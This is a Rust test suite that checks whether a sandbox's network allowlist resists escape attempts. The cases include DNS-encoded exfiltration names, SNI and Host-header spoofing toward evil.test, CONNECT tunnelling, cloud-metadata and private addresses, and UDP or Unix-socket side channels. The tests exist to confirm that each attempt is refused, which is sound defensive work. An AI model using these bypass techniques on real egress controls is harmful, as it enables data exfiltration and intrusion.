//! Getting out where a list of hosts is the only way: by other names, by addresses, by other ports, by names that say one
//! thing and mean another, and by what isn't a connection at all.

use std::io::{BufRead, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::UnixListener;
use std::sync::{Arc, Mutex};

use toolgate_contract::{
    BoxFuture, Denial, Effect, EgressPolicy, Guarantee, GuaranteeLevel, LaunchSpec, NetworkAccess,
};
use toolgate_sandbox::Resolver;
use toolgate_sandbox::process::{Child, Sandbox, SandboxOptions, Tier};

use super::scene::{Outcome, Scene, attack, finish, sh};

/// A plain list: names, addresses that may be arrived at, and what was cleared for other ports.
#[derive(Debug, Clone, Default)]
struct List {
    names: Vec<String>,
    addresses: Vec<IpAddr>,
    cleared: Vec<(String, u16)>,
}

impl EgressPolicy for List {
    fn pass(&self, host: &str, port: u16) -> Result<(), Denial> {
        let usual = matches!(port, 80 | 443) && self.names.iter().any(|name| name == host);
        match usual || self.cleared.contains(&(host.to_owned(), port)) {
            true => Ok(()),
            false => Err(Denial::of_host(host, port, format!("{host} isn't on the list."), None)),
        }
    }

    fn arrive(&self, host: &str, port: u16, address: IpAddr) -> Result<(), Denial> {
        match self.addresses.contains(&address) {
            true => Ok(()),
            false => Err(Denial::of_host(host, port, format!("{host} leads to {address}."), None)),
        }
    }

    fn cleared(&self) -> Vec<(String, u16)> {
        self.cleared.clone()
    }
}

/// A name that passes and that nobody has an address for.
const NOWHERE: &str = "nowhere.test";

/// Answers every other name with one address, and keeps what it was asked.
#[derive(Debug)]
struct Fixed {
    address: SocketAddr,
    asked: Mutex<Vec<String>>,
}

impl Resolver for Fixed {
    fn resolve<'a>(&'a self, host: &'a str, _port: u16) -> BoxFuture<'a, std::io::Result<Vec<SocketAddr>>> {
        self.asked.lock().unwrap().push(host.to_owned());
        let found = match host {
            NOWHERE => Err(std::io::Error::other("nobody knows it")),
            _ => Ok(vec![self.address]),
        };
        Box::pin(std::future::ready(found))
    }
}

/// A server on this machine that answers whatever is said to it, and a sandbox with a way to it.
struct Way<'a> {
    scene: &'a Scene,
    sandbox: Sandbox,
    resolver: Arc<Fixed>,
    server: SocketAddr,
    attacker: String,
}

const LOCAL: IpAddr = IpAddr::V4(std::net::Ipv4Addr::LOCALHOST);

impl<'a> Way<'a> {
    /// None where there are no namespaces of our own: there the list can't be held, and nothing runs.
    fn new(scene: &'a Scene) -> Option<Self> {
        let server = serve();
        Self::leading_to(scene, server, server)
    }

    fn leading_to(scene: &'a Scene, server: SocketAddr, address: SocketAddr) -> Option<Self> {
        let resolver = Arc::new(Fixed { address, asked: Mutex::default() });
        let options = SandboxOptions { resolver: resolver.clone(), ..scene.options.clone() };
        let sandbox = scene.runtime.block_on(Sandbox::new(options)).unwrap();
        let way = Self { scene, sandbox, resolver, server, attacker: scene.attacker() };
        if scene.tier != Tier::Namespaces {
            let refused = scene.runtime.block_on(way.sandbox.launch(&scene.profile(), &way.spec(&ok(), "")));
            assert!(refused.is_err(), "{refused:?}");
            return None;
        }
        Some(way)
    }

    /// An attempt with this list.
    fn spec(&self, list: &List, words: &str) -> LaunchSpec {
        let line = format!("{} {words}", self.attacker);
        sh(line).network(NetworkAccess::Listed(Arc::new(list.clone())))
    }

    /// Makes an attempt with this list: how it ended, and what was refused.
    fn attempt(&self, list: &List, words: &str) -> (Outcome, Vec<Denial>) {
        let (outcome, child) = self.run(list, words);
        (outcome, child.network_denials())
    }

    fn run(&self, list: &List, words: &str) -> (Outcome, Child) {
        self.scene.runtime.block_on(async {
            let child = self.sandbox.launch(&self.scene.profile(), &self.spec(list, words)).await.unwrap();
            assert_eq!(child.enforcement().holding(Guarantee::Network), Some(GuaranteeLevel::Held));
            (finish(&child).await, child)
        })
    }

    fn works(&self, list: &List, words: &str) {
        let (outcome, denials) = self.attempt(list, words);
        assert!(outcome.worked() && denials.is_empty(), "{words}: {outcome:?} {denials:?}");
    }

    /// Refused, with a reason that says this, and nothing was looked up that wasn't allowed.
    fn fails(&self, list: &List, words: &str, reason: &str) {
        let (outcome, denials) = self.attempt(list, words);
        assert!(!outcome.worked(), "{words}: {outcome:?}");
        assert!(denials.iter().any(|denial| denial.reason.contains(reason)), "{words}: {denials:?} {outcome:?}");
    }
}

fn serve() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut words = [0; 4096];
            if stream.read(&mut words).unwrap_or(0) > 0 {
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nreached");
            }
        }
    });
    address
}

/// A server that keeps connections open, and the hosts that it was asked for. It answers once two requests have come, or
/// none comes any more.
fn serve_many() -> (SocketAddr, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (address, hosts) = (listener.local_addr().unwrap(), Arc::<Mutex<Vec<String>>>::default());
    let noted = Arc::clone(&hosts);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let (mut stream, mut came) = (stream.unwrap(), Vec::new());
            let mut lines = std::io::BufReader::new(stream.try_clone().unwrap()).lines();
            while came.len() < 2 {
                let Some(Ok(line)) = lines.next() else { break };
                came.extend(line.strip_prefix("Host: ").map(str::to_owned));
            }
            noted.lock().unwrap().extend(came);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\nreached");
        }
    });
    (address, hosts)
}

/// One name is on the list, and may lead to this machine.
fn ok() -> List {
    List { names: vec!["ok.test".into()], addresses: vec![LOCAL], cleared: Vec::new() }
}

const REQUEST: &str = r"'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n'";

attack! {
    fn a_host_on_the_list_is_reached_by_name(scene) {
        let Some(way) = Way::new(scene) else { return };
        way.works(&ok(), &format!("speak ok.test 80 {REQUEST}"));
        way.works(&ok(), &format!("speak OK.test. 80 {REQUEST}"));
        way.works(&ok(), "client-hello ok.test 443 ok.test");
        assert!(way.resolver.asked.lock().unwrap().iter().all(|name| name == "ok.test"));
        let ordinary = way.attempt(&ok(), "ask 198.18.0.1 ok.test; curl -sS http://ok.test/ && cat /etc/resolv.conf").0;
        assert!(ordinary.worked() && ordinary.output.contains("reached"), "{ordinary:?}");
        let port = way.server.port();
        let cleared = List { cleared: vec![("ok.test".into(), port)], ..List { names: Vec::new(), ..ok() } };
        way.works(&cleared, &format!("speak ok.test {port} hello"));
        way.fails(&cleared, &format!("speak ok.test 80 {REQUEST}"), "isn't on the list");
    }
}

attack! {
    fn names_that_are_not_on_the_list_do_not_exist_and_are_asked_of_nobody(scene) {
        let server = serve();
        let line = format!("{} speak 127.0.0.1 {} x", scene.attacker(), server.port());
        assert!(scene.outside(&line).worked(), "it works without a sandbox");
        let Some(way) = Way::new(scene) else { return };
        for name in ["evil.test", "c2VjcmV0LWRhdGE.evil.test", "ok.test.evil", "xn--k-test-1za.test", "sub.ok.test", "notok.test"] {
            let (outcome, denials) = way.attempt(&ok(), &format!("speak {name} 80 {REQUEST}"));
            assert!(!outcome.worked(), "{name}: {outcome:?}");
            let missing = [80, 443].map(|port| Effect::Connect { host: name.to_lowercase(), port });
            assert_eq!(denials[0].missing, missing, "{name}: {denials:?}");
        }
        for name in [r"'evil\0.ok.test'", r"'evil\0.ok.test.'", "'bücher.test'", r"'ok.test\0.evil.test'", r"'ok\0.test'"] {
            let (outcome, _) = way.attempt(&ok(), &format!("ask 198.18.0.1 {name}"));
            assert!(!outcome.worked(), "{name}: {outcome:?}");
        }
        let (outcome, _) = way.attempt(&List::default(), "ask 198.18.0.1 ok.test");
        assert!(!outcome.worked(), "an empty list lets nobody pass: {outcome:?}");
        let this_machine = List { names: vec!["127.0.0.1".into(), "localhost".into()], ..List::default() };
        let (outcome, _) = way.attempt(&this_machine, "ask 198.18.0.1 127.0.0.1");
        assert!(!outcome.worked(), "an address has no other address that stands for it: {outcome:?}");
        for nameserver in ["8.8.8.8", "127.0.0.1", "10.255.255.53"] {
            way.works(&ok(), &format!("ask {nameserver} ok.test"));
            let (outcome, _) = way.attempt(&ok(), &format!("ask {nameserver} data.evil.test"));
            assert!(!outcome.worked(), "every nameserver is the same one: {outcome:?}");
        }
        assert!(way.resolver.asked.lock().unwrap().is_empty(), "nothing was ever looked up");
    }
}

attack! {
    fn an_allowed_name_that_leads_to_a_private_address_leads_nowhere(scene) {
        let server = serve();
        let free = List { addresses: vec![LOCAL], ..ok() };
        let Some(way) = Way::leading_to(scene, server, server) else { return };
        way.works(&free, &format!("speak ok.test 80 {REQUEST}"));
        let strict = List { addresses: Vec::new(), ..ok() };
        way.fails(&strict, &format!("speak ok.test 80 {REQUEST}"), "ok.test leads to 127.0.0.1");
        for address in ["169.254.169.254:80", "10.0.0.1:80", "[::ffff:169.254.169.254]:80", "100.64.0.1:80", "[fd00:ec2::254]:80"] {
            let way = Way::leading_to(scene, server, address.parse().unwrap()).unwrap();
            way.fails(&strict, &format!("speak ok.test 80 {REQUEST}"), "ok.test leads to");
        }
    }
}

attack! {
    fn addresses_and_other_ports_are_refused(scene) {
        let server = serve();
        let everywhere = TcpListener::bind("0.0.0.0:0").unwrap();
        let port = everywhere.local_addr().unwrap().port();
        let line = format!("{} connect-tcp 127.0.0.1:{port}", scene.attacker());
        assert!(scene.outside(&line).worked(), "it works without a sandbox");
        let Some(way) = Way::leading_to(scene, server, server) else { return };
        for words in [
            format!("connect-tcp 127.0.0.1:{port}"),
            format!("connect-tcp 192.0.2.2:{port}"),
            format!("connect-tcp [::1]:{port}"),
            format!("connect-tcp [::ffff:127.0.0.1]:{port}"),
            "connect-tcp [2606:4700::1111]:443".to_owned(),
            format!("speak ok.test {port} x"),
            "speak ok.test 22 x".to_owned(),
            "speak 127.0.0.1 80 x".into(),
            "speak 0.0.0.0 443 x".into(),
        ] {
            let (outcome, _) = way.attempt(&ok(), &words);
            assert!(!outcome.worked(), "{words}: {outcome:?}");
        }
        for address in ["93.184.216.34", "169.254.169.254", "10.0.0.1", "::ffff:10.0.0.1"] {
            let plain = address.trim_start_matches("::ffff:");
            way.fails(&ok(), &format!("speak {address} 443 x"), &format!("{plain} isn't on the list"));
        }
        way.fails(&ok(), "speak 198.18.7.7 443 x", "stands for no name");
        let named = List { cleared: vec![("192.0.2.2".into(), server.port())], addresses: vec![LOCAL], ..List::default() };
        way.works(&named, &format!("speak 192.0.2.2 {} x", server.port()));
    }
}

attack! {
    fn a_port_of_this_machine_is_reached_only_where_it_was_named(scene) {
        let (server, other) = (serve(), serve());
        let Some(way) = Way::leading_to(scene, server, server) else { return };
        let port = server.port();
        let named = List {
            cleared: vec![("127.0.0.1".into(), port), ("localhost".into(), port)],
            addresses: vec![LOCAL],
            ..List::default()
        };
        for host in ["127.0.0.1", "localhost"] {
            way.works(&named, &format!("speak {host} {port} x"));
        }
        for words in [format!("speak 127.0.0.1 {} x", other.port()), "speak 127.0.0.1 80 x".into(), format!("speak 127.0.0.2 {port} x")] {
            let (outcome, _) = way.attempt(&named, &words);
            assert!(!outcome.worked(), "{words}: {outcome:?}");
        }
    }
}

attack! {
    fn why_a_host_on_the_list_was_not_reached_is_told(scene) {
        let list = List { names: vec!["ok.test".into(), NOWHERE.into()], ..ok() };
        let Some(way) = Way::new(scene) else { return };
        let unused = |words: &str| -> Vec<String> {
            let (outcome, child) = way.run(&list, words);
            assert!(!outcome.worked() && child.network_denials().is_empty(), "{words}: {outcome:?} {:?}", child.network_denials());
            child.unused_names().into_iter().map(|denial| denial.reason).collect()
        };
        for words in ["speak ok.test 22 x".to_owned(), format!("speak ok.test {} x", way.server.port())] {
            let told = unused(&words);
            assert!(matches!(&told[..], [told] if told.contains("net.connect=ok.test:PORT")), "{words}: {told:?}");
        }
        assert_eq!(unused("connect-tcp 192.0.2.2:22"), [""; 0], "no name, nothing known");
        let (outcome, child) = way.run(&list, &format!("speak ok.test 80 {REQUEST}"));
        assert!(outcome.worked() && child.unused_names().is_empty(), "{:?}", child.unused_names());
        way.fails(&list, &format!("speak {NOWHERE} 80 {}", REQUEST.replace("ok.test", NOWHERE)), "nowhere.test can't be looked up: nobody knows it.");
        let gone = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
        let way = Way::leading_to(scene, gone, gone).unwrap();
        way.fails(&list, &format!("speak ok.test 80 {REQUEST}"), "port 80 of it can't be reached: Connection refused");
        let (_, denials) = way.attempt(&list, "speak evil.test 22 x");
        assert!(denials[0].reason.contains("ask for `net.connect=evil.test:PORT`"), "{denials:?}");
    }
}

attack! {
    fn a_connection_for_somebody_else_is_refused(scene) {
        let Some(way) = Way::new(scene) else { return };
        let honest = format!("speak ok.test 80 {REQUEST}");
        way.works(&ok(), &honest);
        way.works(&ok(), "client-hello ok.test 443 OK.test");
        for (words, reason) in [
            ("client-hello ok.test 443 evil.test", "names `evil.test` in its TLS ClientHello"),
            ("client-hello ok.test 443 ok.test.evil", "names `ok.test.evil` in its TLS ClientHello"),
            ("client-hello ok.test 443 ''", "doesn't name its host"),
            ("client-hello ok.test 443 ok.test,evil.test", "read as one to another host"),
            ("client-hello ok.test 443 198.51.100.7", "names `198.51.100.7` in its TLS ClientHello"),
            (r"speak ok.test 80 'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'", "names `evil.test` in its HTTP request"),
            (r"speak ok.test 80 'GET / HTTP/1.0\r\n\r\n'", "doesn't name its host"),
            (r"speak ok.test 80 'GET http://evil.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n'", "read as one to another host"),
            (r"speak ok.test 80 'CONNECT evil.test:443 HTTP/1.1\r\nHost: ok.test\r\n\r\n'", "read as one to another host"),
            (r"speak ok.test 443 'anything else'", "doesn't name its host"),
        ] {
            way.fails(&ok(), words, reason);
        }
        let port = way.server.port();
        let cleared = List { cleared: vec![("ok.test".into(), port)], ..ok() };
        way.fails(&cleared, &format!("client-hello ok.test {port} evil.test"), "names `evil.test`");
    }
}

attack! {
    fn a_later_request_for_somebody_else_is_refused(scene) {
        let (server, hosts) = serve_many();
        let both = r"'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\nGET /secret HTTP/1.1\r\nHost: evil.test\r\n\r\n'";
        let line = format!("{} speak 127.0.0.1 {} {both}", scene.attacker(), server.port());
        assert!(scene.outside(&line).worked());
        let asked = || std::mem::take(&mut *hosts.lock().unwrap());
        assert_eq!(asked(), ["ok.test", "evil.test"], "it works without a sandbox");
        let Some(way) = Way::leading_to(scene, server, server) else { return };
        let (_, denials) = way.attempt(&ok(), &format!("speak ok.test 80 {both}"));
        assert!(denials[0].reason.contains("names `evil.test` in its HTTP request"), "{denials:?}");
        assert!(!asked().contains(&"evil.test".to_owned()));
        way.works(&ok(), &format!("speak ok.test 80 {}", both.replace("evil.test", "ok.test")));
        assert!(asked().ends_with(&["ok.test".into(), "ok.test".into()]), "a connection may stay open");
    }
}

attack! {
    fn what_is_no_connection_stays_inside(scene) {
        let listener = UdpSocket::bind("0.0.0.0:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        listener.set_nonblocking(true).unwrap();
        let heard = || listener.recv(&mut [0; 16]).is_ok();
        assert!(scene.outside(&format!("{} send 127.0.0.1:{port} x", scene.attacker())).worked() && heard());
        let socket = scene.path("outside/agent.sock");
        let by_path = UnixListener::bind(&socket).unwrap();
        let name = format!("toolgate-network-{}-{}", std::process::id(), scene.tier.name());
        let by_name = UnixListener::bind_addr(&std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
        let (path, attacker) = (socket.display(), scene.attacker());
        for words in [format!("connect {path}"), format!("connect-abstract {name}")] {
            assert!(scene.outside(&format!("{attacker} {words}")).worked(), "it works without a sandbox: {words}");
        }
        let Some(way) = Way::new(scene) else { return };
        for address in ["127.0.0.1", "192.0.2.2", "198.18.0.2"] {
            way.attempt(&ok(), &format!("send {address}:{port} secret"));
        }
        assert!(!heard(), "no datagram comes out");
        for words in [format!("connect {path}"), format!("connect-abstract {name}"), "packet".into(), "vsock".into()] {
            let (outcome, _) = way.attempt(&ok(), &words);
            assert!(!outcome.worked(), "{words}: {outcome:?}");
        }
        drop((by_path, by_name));
    }
}

attack! {
    fn servers_of_its_own_work_beside_the_list(scene) {
        let Some(way) = Way::new(scene) else { return };
        for warm in [false, true] {
            if warm {
                scene.runtime.block_on(way.sandbox.prepare(&scene.profile(), &way.spec(&ok(), ""))).unwrap();
            }
            way.works(&ok(), "serve-and-connect");
            way.works(&ok(), &format!("speak ok.test 80 {REQUEST}"));
            let port = 20_000 + std::process::id() % 1000;
            let client = format!("read listening; {} speak localhost {port} x && cat > /dev/null", way.attacker);
            let line = format!("serve-at 127.0.0.1:{port} | {{ {client}; }}");
            way.works(&ok(), &line);
        }
    }
}
